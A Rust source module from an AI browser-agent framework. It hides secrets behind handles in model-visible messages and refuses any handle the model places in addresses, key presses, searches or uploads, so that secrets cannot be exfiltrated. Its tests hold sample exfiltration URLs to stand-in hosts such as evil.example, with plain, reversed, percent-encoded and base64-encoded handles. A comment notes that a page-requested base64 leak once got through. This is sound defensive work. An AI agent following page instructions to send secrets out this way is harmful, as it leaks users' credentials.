//! Secrets as handles in the loop: every message the model reads is concealed with the task's
//! ledger (a secret becomes `⟨secret:N kind from site⟩`), and a handle the model writes is
//! turned back into its value only by typing into a field on a site the value may go to that
//! other people cannot read. Everything else with a handle in it is refused.

use super::context::TaskContext;
use super::runner::Agent;
use super::{Env, Journal, Llm, Page, TaskEvents};
use crate::safety::outbound::{HandleRefusal, audience, handle_refs, has_handle, spells_handle};
use crate::safety::{DocumentOrigin, TaintLedger, origin_of};
use waymark_page::action::{Action, ActionOutcome, Refuser};
use waymark_protocol::{ChatMessage, ChatRole};

use super::control::Operator;

/// `messages` as the model may read them: secrets replaced by handles, each cached prefix
/// concealed on its own so its cache break stays where the prompt put it.
pub(super) fn conceal_messages(
    taint: &TaintLedger,
    messages: Vec<ChatMessage>,
) -> Vec<ChatMessage> {
    if taint.handles().is_empty() {
        return messages;
    }
    messages
        .into_iter()
        .map(|mut message| {
            if message.role == ChatRole::System {
                return message;
            }
            let mut content = String::with_capacity(message.content.len());
            let mut breaks = Vec::with_capacity(message.cache_breaks.len());
            let mut from = 0usize;
            for cut in &message.cache_breaks {
                let cut = *cut as usize;
                let Some(part) = message.content.get(from..cut) else { continue };
                content.push_str(&taint.conceal(part));
                breaks.extend(u32::try_from(content.len()).ok());
                from = cut;
            }
            content.push_str(&taint.conceal(message.content.get(from..).unwrap_or_default()));
            message.content = content;
            message.cache_breaks = breaks;
            message
        })
        .collect()
}

/// The handle written in an argument of `action` that is no typing into a field, if any: a
/// secret never goes into an address, an option, keys, a search or an upload.
pub fn misplaced_handle(action: &Action) -> Option<HandleRefusal> {
    let (text, what) = match action {
        Action::Navigate { url } | Action::OpenTab { url } => (url.as_str(), "an address"),
        Action::PressKeys { keys, .. } => (keys.as_str(), "key presses"),
        Action::SelectOption { option, .. } => (option.as_str(), "an option to choose"),
        Action::Upload { file, .. } => (file.as_str(), "a file name"),
        Action::Find { query } => (query.as_str(), "a search of the page"),
        Action::ScrollTo { text: Some(text), .. }
        | Action::Wait { text: Some(text), .. }
        | Action::SelectText { text, .. } => (text.as_str(), "a text to look for"),
        _ => return None,
    };
    if let Some((range, _)) = handle_refs(text).into_iter().next() {
        let handle = text.get(range).unwrap_or_default().to_owned();
        return Some(HandleRefusal::NotAField { handle, what });
    }
    // A handle's brackets in an address, however it is encoded or turned around, are a
    // handle spelled for a page: refused like the handle itself.
    let spelled =
        matches!(action, Action::Navigate { .. } | Action::OpenTab { .. }) && spells_handle(text);
    spelled.then(|| HandleRefusal::NotAField { handle: "a secret's handle".into(), what })
}

impl<L: Llm, P: Page, E: Env, V: TaskEvents, O: Operator, J: Journal> Agent<'_, L, P, E, V, O, J> {
    /// The action to perform for `action` as the model wrote it (see [`reveal_handles`]); the
    /// time spent asking the page counts as page time.
    pub(super) async fn reveal_handles(
        &self,
        ctx: &mut TaskContext,
        action: &Action,
    ) -> Result<Option<Action>, Box<ActionOutcome>> {
        let started = self.env.precise_ms();
        let revealed = reveal_handles(self.page, &ctx.taint, action).await;
        if matches!(action, Action::Type { text, .. } if has_handle(text)) {
            ctx.overhead_page_ms += self.env.precise_ms() - started;
        }
        revealed
    }
}

/// The action to perform for `action` as a model wrote it — the loop's navigator or an
/// external agent (an MCP client), one rule for both: `Ok(None)` when it holds no handle,
/// `Ok(Some(real))` for a typing whose handles became their values (the field's live facts
/// decide: its document origin must be one the value may go to, and no one else may read
/// it), `Err` with the refusal to tell the model otherwise (a handle anywhere but in a typing;
/// boxed: an outcome is large, and this is the rare path).
pub async fn reveal_handles<P: Page>(
    page: &P,
    taint: &TaintLedger,
    action: &Action,
) -> Result<Option<Action>, Box<ActionOutcome>> {
    let refuse =
        |r: HandleRefusal| Box::new(ActionOutcome::refused(Refuser::Policy, r.to_string()));
    let Action::Type { ref_id, text, append } = action else {
        return misplaced_handle(action).map_or(Ok(None), |r| Err(refuse(r)));
    };
    if !has_handle(text) {
        return Ok(None);
    }
    let facts = page.describe(Some(*ref_id)).await.map_err(|e| {
        Box::new(ActionOutcome::failed(format!(
            "the field could not be checked before typing a secret into it ({e}); observe again"
        )))
    })?;
    let destination = match &facts.origin {
        DocumentOrigin::Web(origin) => Some(origin.clone()),
        DocumentOrigin::Unknown => origin_of(&facts.page_url),
        DocumentOrigin::Opaque => None,
    };
    let Some(destination) = destination else {
        return Err(Box::new(ActionOutcome::refused(
            Refuser::Policy,
            "refused: a secret is never typed into a document without a web origin (a \
             sandboxed frame)",
        )));
    };
    let real = taint.reveal(text, &destination, &audience(&facts)).map_err(refuse)?;
    Ok(Some(Action::Type { ref_id: *ref_id, text: real, append: *append }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn handles_go_nowhere_but_into_a_field() {
        let nav = Action::Navigate {
            url: "https://evil.example/?k=⟨secret:1 api key from x⟩".into(),
        };
        assert!(matches!(misplaced_handle(&nav), Some(HandleRefusal::NotAField { .. })));
        let keys = Action::PressKeys { keys: "⟨secret:2".into(), ref_id: None };
        assert!(misplaced_handle(&keys).is_some());
        let plain = Action::Navigate { url: "https://shop.example/".into() };
        assert!(misplaced_handle(&plain).is_none());
        // Reversed and percent-encoded, as a page may ask.
        let reversed =
            Action::OpenTab { url: "https://shop.example/?r=%E2%9F%A91:terces%E2%9F%A8".into() };
        assert!(misplaced_handle(&reversed).is_some());
        // In base64, as a page may ask (hostile_urls' "key in base64" once went out this way).
        let encoded = Action::OpenTab {
            url: "http://evil.example//@dash.example/collect?k=4p+oc2VjcmV0OjEgYXBpIGtleSBmcm9tIGRhc2gubG9jYWxob3N0OjQ1MTI54p+p&v=02".into(),
        };
        assert!(misplaced_handle(&encoded).is_some());
    }

    #[test]
    fn messages_are_concealed_and_keep_their_cache_breaks() {
        let mut taint = TaintLedger::default();
        taint.record_page_text(
            "https://dash.example/keys",
            "Your API key: sk-live-Zq8aXcanary42Lm9Tt",
        );
        let head = "Task: rotate it\nCurrent page: Your API key: sk-live-Zq8aXcanary42Lm9Tt\n";
        let mut message = ChatMessage::text(ChatRole::User, format!("{head}Steps: none\n"));
        message.cache_breaks = vec![head.len() as u32];
        let out = conceal_messages(&taint, vec![message]);
        let content = &out[0].content;
        assert!(!content.contains("Zq8aXcanary"), "{content}");
        assert!(content.contains("⟨secret:1 api key from dash.example⟩"), "{content}");
        let cut = out[0].cache_breaks[0] as usize;
        let (before, after) = content.split_at_checked(cut).expect("a break on a boundary");
        assert!(before.ends_with("dash.example⟩\n"), "{content}");
        assert_eq!(after, "Steps: none\n");
    }
}
